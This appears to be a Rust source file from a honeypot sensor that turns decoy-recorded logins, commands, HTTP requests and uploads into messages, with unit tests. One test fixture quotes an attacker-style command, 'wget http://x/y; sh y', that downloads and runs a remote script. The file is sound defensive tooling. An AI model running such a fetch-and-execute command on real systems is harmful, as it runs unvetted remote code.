//! What decoys recorded and packets do not show: logins and commands inside an encrypted connection.
//!
//! A sensor writes such a record as a comment on the packet that completed it (docs/sensor.md), so it comes with its flow and its
//! place, takes part in whatever order and split captures are read, and stands in no row twice: what packets show is never told so.

use std::borrow::Cow;

use serde::Deserialize;
use trapline_speech::{Body, Kind, Message};

/// One line, as decoys write it (`trapline_decoy::record`).
#[derive(Deserialize)]
struct Line {
    what: String,
    service: String,
    user: Option<String>,
    password: Option<String>,
    accepted: Option<bool>,
    line: Option<String>,
    method: Option<String>,
    target: Option<String>,
    name: Option<String>,
    bytes: Option<u64>,
    sha256: Option<String>,
}

/// The message of a line and its service; nothing where it is none.
pub(crate) fn message(line: &[u8]) -> Option<(Cow<'static, str>, Message)> {
    let line: Line = serde_json::from_slice(line).ok()?;
    let mut message = match line.what.as_str() {
        "login" => {
            let mut message = Message::request(b"login", b"");
            message.object = None;
            message.user = Some(message.keep(&bytes(line.user.as_deref()?)));
            message.password = line.password.as_deref().map(|password| message.keep(&bytes(password)));
            message.detail("accepted", if line.accepted? { b"yes" } else { b"no" });
            message
        }
        "command" => {
            let whole = bytes(line.line.as_deref()?);
            let whole = whole.trim_ascii();
            let end = whole.iter().position(|byte| *byte == b' ').unwrap_or(whole.len());
            Message::request(&whole[..end], whole[end..].trim_ascii_start())
        }
        "request" => Message::request(&bytes(line.method.as_deref()?), &bytes(line.target.as_deref()?)),
        "upload" => {
            let mut message = Message::request(b"put", &bytes(line.name.as_deref()?));
            message.kind = Kind::Transfer;
            message.body = Some(Body {
                bytes: line.bytes?,
                sha256: digest(line.sha256.as_deref()?)?,
                begin: Vec::new(),
            });
            message
        }
        _ => return None,
    };
    message.detail("source", b"decoy");
    let service = match line.service.as_str() {
        "ssh" => Cow::Borrowed("ssh"),
        _ => Cow::Owned(trapline_speech::message::text(line.service.as_bytes())),
    };
    Some((service, message))
}

/// Undoes what a record writes of bytes: `\\xNN` and a doubled backslash.
fn bytes(text: &str) -> Vec<u8> {
    let (text, mut out, mut at) = (text.as_bytes(), Vec::with_capacity(text.len()), 0);
    while let Some(byte) = text.get(at) {
        let escaped = match text.get(at..) {
            Some([b'\\', b'\\', ..]) => Some((b'\\', 2)),
            Some([b'\\', b'x', digits @ ..]) => {
                let digits = digits.get(..2).and_then(|digits| std::str::from_utf8(digits).ok());
                digits.and_then(|digits| u8::from_str_radix(digits, 16).ok()).map(|byte| (byte, 4))
            }
            _ => None,
        };
        let (byte, length) = escaped.unwrap_or((*byte, 1));
        out.push(byte);
        at += length;
    }
    out
}

/// A hash in hexadecimal digits.
fn digest(text: &str) -> Option<[u8; 32]> {
    let mut digest = [0; 32];
    if text.len() != 64 {
        return None;
    }
    for (byte, at) in digest.iter_mut().zip((0..).step_by(2)) {
        *byte = u8::from_str_radix(text.get(at..at + 2)?, 16).ok()?;
    }
    Some(digest)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn records_become_messages_and_their_bytes_are_what_was_typed() {
        let login = br#"{"time_ns":5,"host":"192.0.2.1","port":22,"peer":"203.0.113.9","peer_port":1025,"transport":"tcp","service":"ssh","what":"login","user":"a\\\\\\x0a\"\\xff","password":"\\x","accepted":true}"#;
        let (service, message) = message(login).unwrap();
        assert_eq!(service, "ssh");
        assert_eq!(message.user.as_deref(), Some("a\\\n\"\u{ff}"));
        assert_eq!(message.password.as_deref(), Some("\\x"));
        assert_eq!(message.details, [("accepted", "yes".to_owned()), ("source", "decoy".to_owned())]);
    }

    #[test]
    fn a_command_is_a_word_and_the_rest() {
        let (_, message) =
            message(br#"{"service":"ssh","what":"command","line":"  wget  http://x/y; sh y\\x0d"}"#).unwrap();
        assert_eq!(
            (message.verb.as_deref(), message.object.as_deref()),
            (Some("wget"), Some("http://x/y; sh y"))
        );
    }

    #[test]
    fn what_is_no_record_is_none() {
        for line in [
            &b""[..],
            b"{}",
            br#"{"service":"ssh","what":"opened"}"#,
            br#"{"service":"ssh","what":"login","user":"a"}"#,
            br#"{"service":"ssh","what":"upload","name":"a","bytes":1,"sha256":"xyz"}"#,
            b"\xff",
        ] {
            assert_eq!(message(line), None, "{}", String::from_utf8_lossy(line));
        }
    }
}
